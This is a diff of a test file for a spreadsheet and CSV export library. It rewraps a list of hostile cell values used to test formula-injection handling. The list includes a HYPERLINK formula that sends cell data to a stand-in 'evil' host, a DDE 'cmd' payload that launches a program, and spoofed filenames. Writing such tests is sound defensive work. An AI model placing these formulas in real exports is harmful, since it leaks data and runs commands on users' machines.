@@ -12,8 +12,8 @@ from collab.tables import csv_text, excel, sheet_name, table_file
 
 HEAD = ("Name", "Amount", "On")
 HOSTILE = [
-    '=HYPERLINK("http://evil?"&A1)', "=cmd|'/c calc'!A0", "+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "|x",
-    "%0", "-1", "<script>", "a\0b", "\u202egpj.exe", "x" * 40_000, "", "  ", "NULL", "né 東京",
+    '=HYPERLINK("http://evil?"&A1)', "=cmd|'/c calc'!A0", "+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1",
+    "|x", "%0", "-1", "<script>", "a\0b", "\u202egpj.exe", "x" * 40_000, "", "  ", "NULL", "né 東京",
 ]  # fmt: skip
 
 
